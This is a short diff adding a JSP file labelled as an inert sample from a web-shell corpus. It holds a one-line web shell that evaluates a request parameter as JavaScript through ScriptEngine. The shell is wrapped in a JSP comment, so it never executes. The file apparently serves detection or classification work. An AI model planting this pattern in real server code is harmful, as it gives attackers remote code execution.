@@ -1,0 +1,7 @@
+<%-- hegui corpus: inert sample - a JSP comment is never compiled
+<%@ page import="javax.script.*" %>
+<%
+ScriptEngine e = new ScriptEngineManager().getEngineByName("javascript");
+out.print(e.eval(request.getParameter("img")));
+%>
+--%>
